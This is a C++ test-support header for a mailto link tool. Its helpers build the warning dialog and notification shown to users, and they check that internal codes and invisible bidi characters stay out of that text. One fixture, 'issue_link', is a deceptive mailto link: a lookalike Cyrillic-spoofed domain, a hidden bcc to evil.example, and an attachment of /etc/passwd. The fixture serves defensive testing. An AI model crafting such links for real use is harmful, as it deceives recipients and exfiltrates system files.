// What the tests of the question (question_test, terminal_test, notice_test) share: the
// question and the notice for a link as `open` builds them, and the checks that no developer's
// word reaches them.
#pragma once

#include <catch2/catch.hpp>
#include <string>
#include <string_view>
#include <vector>

#include "ask/notice.hpp"
#include "ask/question.hpp"
#include "ask/terminal.hpp"
#include "mailtokit/mailto.hpp"
#include "mailtokit/policy.hpp"
#include "mailtokit/utf8.hpp"
#include "ours_literal.hpp"

namespace question_support {

using namespace mailtokit;
using namespace mailtokit::ask;


// The question `open` asks for `uri`, built as cmd_open.cpp builds it.
inline question question_for(std::string_view uri, const std::vector<std::string>& losses = {}, const text_limits& l = {}) {
  auto d = parse_draft(uri, {}, policy::defaults());
  REQUIRE(d);
  const auto findings = preview::check(*d);
  return make_question(*d, findings, losses, l);
}

// What a person reads before the details: the headline, the findings and the choices.
inline std::string front(const question& q) {
  std::string t = q.headline.str() + "\n";
  for (const auto& f : q.findings) t += f.str() + "\n";
  for (const auto& c : q.choices) t += c.str() + "\n";
  for (const auto& b : q.buttons) t += b.label.str() + "\n";
  return t + question_terminal_text(q);
}

inline bool has(std::string_view text, std::string_view what) { return text.find(what) != std::string_view::npos; }

inline bool button_for_test(const question& q, choice c) {
  for (const auto& b : q.buttons)
    if (b.what == c) return true;
  return false;
}

// Words for developers that the question never shows: field indexes, spec names, the preview's
// own phrases, and every finding and warning code (preview.hpp, draft.hpp).
inline void check_plain_text(const std::string& t) {
  for (const char* bad : {"to[",
                          "cc[",
                          "bcc",
                          "Bcc",
                          "BCC",
                          "UTS",
                          "RFC",
                          "ASCII",
                          "section",
                          "SMTPUTF8",
                          "hfield",
                          "header:",
                          "hidden_recipients",
                          "bidi_control",
                          "mixed_direction",
                          "mixed_script",
                          "confusable",
                          "mixed_numbers",
                          "hidden_overlay",
                          "non_ascii_local_part",
                          "invisible_character",
                          "control_character",
                          "invalid_address",
                          "display_name_mismatch",
                          "long_body",
                          "many_lines",
                          "header_controls_removed",
                          "attach=",
                          "repaired:",
                          "U+2066",
                          "\xE2\x81\xA6",
                          "\xE2\x80\xAE",
                          "\x1B"}) {
    INFO(t);
    CHECK_FALSE(has(t, bad));
  }
}

// The recipients' lines are checked alone: they isolate each address (LRI ... PDI), which the
// rest of the question never holds.
inline void check_plain_words(const question& q) {
  question without = q;
  without.recipients.clear();
  check_plain_text(front(without));
  for (const auto& r : q.recipients) {
    INFO(r);
    CHECK_FALSE(has(r, "Bcc"));
    CHECK_FALSE(has(r, "\xE2\x80\xAE"));
    std::size_t open = 0, close = 0;
    for (std::size_t at = 0; (at = r.find("\xE2\x81\xA6", at)) != std::string::npos; ++at) ++open;
    for (std::size_t at = 0; (at = r.find("\xE2\x81\xA9", at)) != std::string::npos; ++at) ++close;
    CHECK(open == close);
  }
}

// The notification's lines for `uri`, built as cmd_open.cpp builds them, one per line.
inline std::string notice(std::string_view uri) {
  auto d = parse_draft(uri, {}, policy::defaults());
  REQUIRE(d);
  std::string t;
  for (const auto& l : notice_lines(*d, preview::check(*d))) t += l.str() + "\n";
  return t;
}

// The question as one text, as a window shows it: the headline, the findings, who gets the
// message, each choice, then the details.
inline std::string shown_text(const question& q) {
  std::string out = q.headline.str() + "\n\n";
  for (const auto& f : q.findings) out += "- " + f.str() + "\n";
  if (!q.findings.empty()) out += "\n";
  if (!q.recipients.empty()) {
    out += "The message goes to:\n";
    for (const auto& r : q.recipients) out += "  " + r.str() + "\n";
    out += "\n";
  }
  for (const auto& c : q.choices) out += c.str() + "\n";
  if (!q.details.empty()) out += "\nDetails:\n" + q.details.str();
  return out;
}

// Lines of shown_text() before the details, without who gets the message (at most a
// line per field, each at most 20 addresses: recipients_bounded()).
inline std::size_t lines_before_details(const question& q) {
  question without = q;
  without.recipients.clear();
  const std::string t = shown_text(without);
  const auto details = t.find("\nDetails:\n");
  REQUIRE(details != std::string::npos);
  std::size_t n = 0;
  for (std::size_t i = 0; i < details; ++i) n += t[i] == '\n';
  return n;
}

inline const std::string issue_link =
    "mailto:admin@%D0%B0pple.com?bcc=x@evil.example&subject=Invoice&attach=%2Fetc%2Fpasswd";


}  // namespace question_support
